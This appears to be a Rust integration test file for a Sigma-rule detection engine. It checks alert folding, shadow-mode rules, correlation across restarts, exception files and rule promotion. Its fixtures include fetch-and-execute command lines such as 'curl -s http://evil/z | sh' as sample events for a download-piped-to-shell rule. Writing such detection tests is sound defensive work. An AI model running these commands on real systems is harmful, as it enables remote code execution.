//! The detection stage over real Weir events: a Sigma rule written the way a
//! security team writes it fires on a matching exec, not on others, folds
//! repeats into one alert, and staged (experimental) rules stay in shadow.

use weir_detect::{AlertQuery, AlertStore, DetectConfig, Detector, Mode};
use weir_event::{event::Body, Event, Exec, Process};

const RULE: &str = r#"
title: Download piped to a shell
id: 6f0c5d38-2a41-4f0e-9a3a-0d9f0c1a7b11
status: stable
level: high
author: Weir tests
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: '/sh'
    CommandLine|contains|all:
      - 'curl'
      - '| sh'
  condition: selection
"#;

const SHADOW_RULE: &str = r#"
title: Any id command
id: 0b7e3c1e-55d2-4b6a-8d55-1f3a7c2e9d00
status: experimental
level: low
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: '/id'
  condition: selection
"#;

fn exec(seq: u64, exe: &str, args: &[&str]) -> Event {
    Event {
        seq,
        time_unix_ns: 1_800_000_000_000_000_000 + seq,
        host_id: "host-a".into(),
        process: Some(Process {
            pid: 100 + seq as u32,
            executable: exe.into(),
            args: args.iter().map(|a| a.as_bytes().to_vec()).collect(),
            loginuid: 1000,
            login_name: "alice".into(),
            ..Default::default()
        }),
        body: Some(Body::Exec(Exec::default())),
        ..Default::default()
    }
}

#[test]
fn matching_execs_become_one_alert_and_staged_rules_stay_in_shadow() {
    let dir = tempfile::tempdir().unwrap();
    let rules_dir = dir.path().join("rules");
    std::fs::create_dir(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("curl_sh.yml"), RULE).unwrap();
    std::fs::write(rules_dir.join("id.yml"), SHADOW_RULE).unwrap();
    let (rules, report) = weir_rules::RuleSet::load_paths(&[rules_dir]);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(rules.rules().len(), 2);

    let alerts = dir.path().join("alerts.db");
    let detector = Detector::start(rules, &alerts, DetectConfig::default()).unwrap();
    let events = vec![
        exec(1, "/usr/bin/sh", &["sh", "-c", "curl -s http://x/y | sh"]),
        exec(2, "/usr/bin/sh", &["sh", "-c", "echo curl"]),
        exec(3, "/usr/bin/sh", &["sh", "-c", "curl -fsSL http://x/z | sh"]),
        exec(4, "/usr/bin/id", &["id"]),
    ];
    detector.submit("host-a", 7, &events);
    detector.stop();

    let store = AlertStore::open(&alerts).unwrap();
    let listed = store.list(&AlertQuery::default()).unwrap();
    assert_eq!(listed.len(), 2, "{listed:#?}");
    let curl = listed
        .iter()
        .find(|a| a.rule_title == "Download piped to a shell")
        .unwrap();
    assert_eq!(
        (curl.count, curl.mode, curl.actor.as_str(), curl.host_id.as_str()),
        (2, Mode::Alert, "alice", "host-a")
    );
    assert_eq!(
        store.evidence(curl.id).unwrap(),
        vec![("host-a".into(), 1, 7), ("host-a".into(), 3, 7)]
    );
    let id = listed.iter().find(|a| a.rule_title == "Any id command").unwrap();
    assert_eq!(id.mode, Mode::Shadow);
}

const BASE_RULE: &str = r#"
title: Shell spawned
id: 9a3f1c2e-1111-4c3b-8a7d-2e4f6a8b0c01
name: shell_spawned
status: stable
level: low
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: '/sh'
  condition: selection
"#;

const CORRELATION_RULE: &str = r#"
title: Burst of shells from one login user
id: 9a3f1c2e-2222-4c3b-8a7d-2e4f6a8b0c02
status: stable
level: high
correlation:
  type: event_count
  rules: [shell_spawned]
  group-by: [user.login]
  timespan: 10m
  condition:
    gte: 3
"#;

#[test]
fn correlation_state_survives_a_restart_of_detection() {
    let dir = tempfile::tempdir().unwrap();
    let rules_dir = dir.path().join("rules");
    std::fs::create_dir(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("base.yml"), BASE_RULE).unwrap();
    std::fs::write(rules_dir.join("burst.yml"), CORRELATION_RULE).unwrap();
    let alerts = dir.path().join("alerts.db");
    let config = || DetectConfig {
        state_path: Some(dir.path().join("correlation.state")),
        ..Default::default()
    };
    let load = || {
        let (rules, report) = weir_rules::RuleSet::load_paths(std::slice::from_ref(&rules_dir));
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        rules
    };
    let shell = |seq| exec(seq, "/usr/bin/sh", &["sh", "-c", "id"]);

    // Two shells, then detection restarts (state saved at stop)...
    let detector = Detector::start(load(), &alerts, config()).unwrap();
    detector.submit("host-a", 1, &[shell(1), shell(2)]);
    detector.stop();
    let burst = |store: &AlertStore| {
        store
            .list(&AlertQuery::default())
            .unwrap()
            .into_iter()
            .filter(|a| a.rule_title.starts_with("Burst"))
            .count()
    };
    assert_eq!(burst(&AlertStore::open(&alerts).unwrap()), 0);
    assert!(dir.path().join("correlation.state").exists());

    // ...and the third shell after the restart completes the burst.
    let detector = Detector::start(load(), &alerts, config()).unwrap();
    detector.submit("host-a", 2, &[shell(3)]);
    detector.stop();
    let store = AlertStore::open(&alerts).unwrap();
    assert_eq!(burst(&store), 1, "{:#?}", store.list(&AlertQuery::default()).unwrap());
    let alert = store
        .list(&AlertQuery::default())
        .unwrap()
        .into_iter()
        .find(|a| a.rule_title.starts_with("Burst"))
        .unwrap();
    assert_eq!(alert.group_key, "alice");
    assert_eq!(alert.level, "high");
}

#[test]
fn an_exception_file_lets_known_good_activity_through_whatever_the_rule_file_says() {
    let dir = tempfile::tempdir().unwrap();
    let rules_dir = dir.path().join("rules");
    std::fs::create_dir(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("curl_sh.yml"), RULE).unwrap();
    let exceptions_file = dir.path().join("installer.yml");
    std::fs::write(
        &exceptions_file,
        "exceptions:\n  - rule: 6f0c5d38-2a41-4f0e-9a3a-0d9f0c1a7b11\n    reason: the installer bootstraps this way\n    \
         author: alice\n    where:\n      process.command_line: 'sh -c curl -s http://x/y | sh'\n",
    )
    .unwrap();
    let exceptions = weir_detect::Exceptions::load(&[exceptions_file]).unwrap();
    assert_eq!(exceptions.len(), 1);
    let (rules, _) = weir_rules::RuleSet::load_paths(&[rules_dir]);
    let alerts = dir.path().join("alerts.db");
    let detector = Detector::start(
        rules,
        &alerts,
        DetectConfig {
            exceptions,
            ..Default::default()
        },
    )
    .unwrap();
    detector.submit(
        "host-a",
        1,
        &[
            exec(1, "/usr/bin/sh", &["sh", "-c", "curl -s http://x/y | sh"]),
            exec(2, "/usr/bin/sh", &["sh", "-c", "curl -s http://evil/z | sh"]),
        ],
    );
    let relaxed = std::sync::atomic::Ordering::Relaxed;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while detector.stats().events.load(relaxed) < 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let excepted = detector.stats().excepted.load(relaxed);
    detector.stop();
    assert_eq!(excepted, 1);
    let listed = AlertStore::open(&alerts).unwrap().list(&AlertQuery::default()).unwrap();
    assert_eq!(listed.len(), 1);
    assert!(listed[0].summary.contains("evil"), "{listed:#?}");
}

#[test]
fn promoting_a_staged_rule_makes_its_next_matches_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let rules_dir = dir.path().join("rules");
    std::fs::create_dir(&rules_dir).unwrap();
    std::fs::write(rules_dir.join("id.yml"), SHADOW_RULE).unwrap();
    let alerts = dir.path().join("alerts.db");
    let load = || weir_rules::RuleSet::load_paths(std::slice::from_ref(&rules_dir)).0;

    let detector = Detector::start(load(), &alerts, DetectConfig::default()).unwrap();
    detector.submit("host-a", 1, &[exec(1, "/usr/bin/id", &["id"])]);
    detector.stop();
    let mut store = AlertStore::open(&alerts).unwrap();
    let rule_id = "0b7e3c1e-55d2-4b6a-8d55-1f3a7c2e9d00";
    store
        .set_rule_mode(rule_id, weir_detect::RuleMode::Alert, "alice", "quiet for a week", 1)
        .unwrap();
    assert!(
        store
            .set_rule_mode(rule_id, weir_detect::RuleMode::Alert, " ", "", 1)
            .is_err(),
        "who is required"
    );

    let detector = Detector::start(load(), &alerts, DetectConfig::default()).unwrap();
    detector.submit("host-a", 2, &[exec(2, "/usr/bin/id", &["id"])]);
    detector.stop();
    let modes: Vec<Mode> = store
        .list(&AlertQuery::default())
        .unwrap()
        .iter()
        .map(|a| a.mode)
        .collect();
    assert_eq!(modes.iter().filter(|m| **m == Mode::Shadow).count(), 1, "{modes:?}");
    assert_eq!(modes.iter().filter(|m| **m == Mode::Alert).count(), 1, "{modes:?}");
}
